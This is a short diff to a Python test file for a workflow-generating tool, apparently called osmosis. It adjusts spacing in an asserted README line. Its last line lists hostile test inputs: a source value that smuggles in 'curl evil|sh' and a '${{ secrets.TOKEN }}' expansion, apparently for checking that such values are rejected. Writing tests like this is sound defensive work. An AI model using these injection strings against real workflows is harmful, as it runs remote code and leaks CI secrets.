@@ -143,7 +143,7 @@ def test_changing_the_recorded_source_and_updating_rewrites_the_workflow(make_wo
     assert result.exit_code == 0, result.output
     workflow = yaml.safe_load((ws / ".github/workflows/osmosis.yml").read_text(encoding="utf-8"))
     assert workflow["env"]["OSMOSIS_CHECKER"] == tag
-    assert f"pip install {tag}   # the checker" in (ws / "README.md").read_text(encoding="utf-8")
+    assert f"pip install {tag} # the checker" in (ws / "README.md").read_text(encoding="utf-8")
 
 
 @pytest.mark.parametrize("source", ['osmosis-workspace"; curl evil|sh; "', "${{ secrets.TOKEN }}", "a\\b", "   "])
